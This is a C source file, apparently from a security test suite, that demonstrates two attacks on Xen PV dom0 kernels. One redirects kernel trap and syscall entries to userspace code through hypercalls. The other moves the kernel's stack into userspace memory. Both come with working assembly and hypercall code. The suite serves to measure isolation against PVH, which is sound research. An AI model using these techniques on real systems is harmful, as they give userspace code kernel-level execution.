// SPDX-License-Identifier: GPL-2.0-only
/*
 * Entries into a PV dom0 kernel: Xen calls the kernel at addresses, and on a
 * stack, that hypercalls set. Kernel and user pages are both mapped while the
 * kernel runs, and nothing of the processor's (SMEP, SMAP) tells them apart, so
 * an entry may as well be code of root's own.
 */
#include "entry.h"

#include <sys/mman.h>
#include <sys/syscall.h>

#include <xen/callback.h>

#include "../frames/paging.h"

uint64_t entry_mark[2];
uint64_t entry_target;
uint64_t entry_next;

void syscall_entry(void);

/*
 * Xen's frame on the kernel's stack: rcx, r11, rip, cs, rflags, rsp, ss. A trap
 * ends with the iret hypercall; a system call goes on to where it should have
 * gone.
 */
__asm__(".text\n"
        ".globl write_entry_mark\n"
        "write_entry_mark:\n"
        "    push %rax\n"
        "    push %rdi\n"
        "    mov entry_target(%rip), %rdi\n"
        "    mov entry_mark(%rip), %rax\n"
        "    mov %rax, (%rdi)\n"
        "    mov entry_mark + 8(%rip), %rax\n"
        "    mov %rax, 8(%rdi)\n"
        "    pop %rdi\n"
        "    pop %rax\n"
        "    ret\n"
        ".globl trap_entry\n"
        "trap_entry:\n"
        "    call write_entry_mark\n"
        "    pop %rcx\n"
        "    pop %r11\n"
        "    push $0\n"
        "    push %rcx\n"
        "    push %r11\n"
        "    push %rax\n"
        "    mov $23, %eax\n" /* __HYPERVISOR_iret */
        "    syscall\n"
        ".globl syscall_entry\n"
        "syscall_entry:\n"
        "    call write_entry_mark\n"
        "    jmp *entry_next(%rip)\n");

void prepare_entry(void)
{
    stay_on_cpu(0);
    mlockall(MCL_CURRENT);

    memcpy(entry_mark, new_mark(), sizeof(entry_mark));
    entry_target = victim();
}

void register_callback(uint16_t type, uint64_t address)
{
    callback_register_t callback = { .type = type,
                                     .flags = CALLBACKF_mask_events,
                                     .address = address };

    hypercall2(__HYPERVISOR_callback_op, CALLBACKOP_register, &callback);
}

static void trap(void *arg)
{
    (void)arg;
    __asm__ volatile("int $0x41" ::: "memory");
}

static bool enter_by_trap(void)
{
    /*
     * The second is what Xen sees under a QEMU that doubles vectors in the
     * fault's error code.
     */
    static const uint8_t vectors[] = { 0x41, 0x82 };
    trap_info_t *table = buffer(PAGE_SIZE);

    prepare_entry();
    for ( size_t i = 0; i < ARRAY_SIZE(vectors); i++ )
        table[i] = (trap_info_t){
            .vector = vectors[i],
            .flags = 3 | 4, /* user mode may raise it; events masked */
            .cs = FLAT_KERNEL_CS,
            .address = (uintptr_t)trap_entry
        };
    hypercall1(__HYPERVISOR_set_trap_table, table);
    survives(trap, NULL);

    return victim_has_mark();
}

static bool enter_by_callback(uint64_t kernel_entry)
{
    prepare_entry();
    entry_next = kernel_entry;
    register_callback(CALLBACKTYPE_syscall, (uintptr_t)syscall_entry);
    syscall(SYS_getppid);
    register_callback(CALLBACKTYPE_syscall, kernel_entry);

    return victim_has_mark();
}

/*
 * U-TRAP: have Xen enter the kernel at an address of root's choice.
 *
 * A new trap that user mode may raise, and the entry of all system calls, point
 * to code in this program. It runs with the kernel's rights, writes to a kernel
 * variable and goes on as if nothing had happened.
 */
PV_ATTACK("U-TRAP", "point a kernel entry at userspace code",
          "a PVH kernel's entries are the processor's")
{
    const uint64_t syscall_of_kernel = kernel_symbol("xen_entry_SYSCALL_64");
    bool trapped, called_back;

    if ( !victim() || !syscall_of_kernel )
        return cannot_try("no address for the kernel's entry or variable");

    trapped = enter_by_trap();
    called_back = enter_by_callback(syscall_of_kernel);

    return effect(trapped || called_back, "%s%s%s",
                  trapped || called_back ? "userspace code ran as the kernel by"
                                         : "no code ran",
                  trapped ? " set_trap_table" : "",
                  called_back ? " callback_op" : "");
}

/*
 * Whether a page of ours holds what only the kernel, running on it as its
 * stack, puts there.
 */
static bool was_kernel_stack(const uint64_t *stack, size_t words)
{
    const uint64_t text = kernel_symbol("_text"), end = kernel_symbol("_etext");

    for ( size_t i = 0; i < words; i++ )
        if ( stack[i] >= text && stack[i] < end )
            return true;

    return false;
}

/*
 * U-STACK: make the kernel use userspace memory as its stack.
 *
 * stack_switch sets where Xen puts the kernel's stack pointer on the next
 * entry. With it in this program's memory, another thread could change the
 * kernel's return addresses while it runs; that they are there is shown.
 */
PV_ATTACK("U-STACK", "run the kernel on a stack in userspace memory",
          "a PVH kernel's stack pointer is the processor's")
{
    static const size_t size = 16 * PAGE_SIZE;
    uint64_t *stack = buffer(size);
    bool used;

    prepare_entry();
    hypercall2(__HYPERVISOR_stack_switch, 0, (uintptr_t)stack + size);
    syscall(SYS_getppid);
    used = was_kernel_stack(stack, size / sizeof(*stack));
    /* The scheduler sets the right stack again. */
    rest(50);

    return effect(used, "%s",
                  used ? "the kernel's return addresses lie in userspace memory"
                       : "the kernel left no trace on the stack");
}
